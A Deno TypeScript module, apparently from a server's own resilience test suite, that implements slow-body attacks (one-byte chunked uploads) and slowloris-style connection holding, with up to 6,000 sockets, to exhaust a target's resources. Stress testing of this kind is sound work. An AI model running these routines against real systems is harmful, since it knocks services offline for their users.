/**
 * Attacks that no HTTP client can make: bodies in pieces of one byte, and
 * connections on which nothing is asked.
 *
 * @module
 */
import { type Assault, headersOf, pause } from "./attacking.ts";

/** Half of them send JSON, half an upload. */
const PIECEMEAL = 8;
/** Chunks of one byte in one write, and the pause until the next. */
const PIECES = 256;
const PIECES_PAUSE_MS = 10;

/** So many connections are opened each time, and held. */
const OPENED = 40;
const OPENED_PAUSE_MS = 100;
/** Beyond any limit of descriptors that the server has here. */
const HELD_MAX = 6_000;

const encoder = new TextEncoder();
const decoder = new TextDecoder();

/** Bodies in pieces of one byte each. */
export async function inPieces(assault: Assault): Promise<void> {
  await Promise.all(
    Array.from({ length: PIECEMEAL }, async (_, n) => {
      while (!assault.over.aborted) {
        assault.note(
          n % 2 === 0
            ? await jsonInPieces(assault)
            : await uploadInPieces(assault),
        );
        await pause(PIECES_PAUSE_MS);
      }
    }),
  );
}

function jsonInPieces(assault: Assault): Promise<string> {
  return piecemeal(assault, "POST /v1/auth/login", {
    ...headersOf("198.51.100.2"),
    "Content-Type": "application/json",
  });
}

async function uploadInPieces(assault: Assault): Promise<string> {
  const { origin, mallory: { token, uploadId } } = assault.victim;
  const headers = headersOf("198.51.100.2", token);
  const held = await fetch(`${origin}/v1/upload/${uploadId}`, {
    method: "HEAD",
    headers,
  }).catch(() => undefined);
  const offset = held?.headers.get("Upload-Offset");
  if (offset === null || offset === undefined) return "no offset";
  return await piecemeal(assault, `PATCH /v1/upload/${uploadId}`, {
    ...headers,
    "Content-Type": "application/offset+octet-stream",
    "Upload-Offset": offset,
  });
}

/** One body in chunks of a byte (RFC 9112 section 7.1), until it is ended. */
async function piecemeal(
  { victim, over }: Assault,
  target: string,
  headers: { readonly [name: string]: string },
): Promise<string> {
  const { hostname, port, host } = new URL(victim.origin);
  try {
    using socket = await Deno.connect({ hostname, port: Number(port) });
    const end = () => close(socket);
    over.addEventListener("abort", end, { once: true });
    const said = firstLine(socket);
    let answered = false;
    void said.then(() => answered = true);
    await write(
      socket,
      headText(target, {
        Host: host,
        "Transfer-Encoding": "chunked",
        ...headers,
      }),
    );
    const pieces = "1\r\n \r\n".repeat(PIECES);
    try {
      while (!answered && !over.aborted) {
        await write(socket, pieces);
        await pause(PIECES_PAUSE_MS);
      }
    } catch {
      // The server has ended it; it may have said why.
    }
    over.removeEventListener("abort", end);
    return await said;
  } catch {
    return "cut";
  }
}

/** Connections that never ask anything, or never to the end. */
export async function withoutEnd({ victim, over, note }: Assault) {
  const { hostname, port, host } = new URL(victim.origin);
  const beginnings = [
    "",
    "GET /v1/version HTTP/1.1\r\nHost: ",
    "",
    headText("POST /v1/auth/login", {
      Host: host,
      "Content-Type": "application/json",
      "Content-Length": "100",
      ...headersOf("198.51.100.3"),
    }),
  ];
  const held = new Set<Deno.Conn>();
  const hold = async (beginning: string) => {
    const socket = await Deno.connect({ hostname, port: Number(port) })
      .catch(() => undefined);
    if (socket === undefined) return note("refused");
    // One that was long in coming would be held for ever.
    if (over.aborted) return close(socket);
    held.add(socket);
    try {
      await write(socket, beginning);
      note("held");
      while (await socket.read(new Uint8Array(512)) !== null) note("answer");
    } catch {
      // The same as an end.
    }
    note("ended");
    held.delete(socket);
    close(socket);
  };
  const holding: Promise<void>[] = [];
  while (!over.aborted) {
    for (let n = 0; n < OPENED && held.size < HELD_MAX; n++) {
      holding.push(hold(beginnings[n % beginnings.length] ?? ""));
    }
    await pause(OPENED_PAUSE_MS);
  }
  for (const socket of held) close(socket);
  await Promise.all(holding);
}

function close(socket: Deno.Conn): void {
  try {
    socket.close();
  } catch {
    // It was closed before.
  }
}

function headText(
  target: string,
  headers: { readonly [name: string]: string },
): string {
  const lines = Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`);
  return `${target} HTTP/1.1\r\n${lines.join("")}\r\n`;
}

async function write(socket: Deno.Conn, text: string): Promise<void> {
  let rest = encoder.encode(text);
  while (rest.length > 0) rest = rest.subarray(await socket.write(rest));
}

/** The status of the answer, or that there was none. */
async function firstLine(socket: Deno.Conn): Promise<string> {
  const buffer = new Uint8Array(4_096);
  const length = await socket.read(buffer).catch(() => null);
  if (length === null) return "cut";
  return /^HTTP\/1\.1 (\d{3})/.exec(
    decoder.decode(buffer.subarray(0, length)),
  )?.[1] ?? "cut";
}
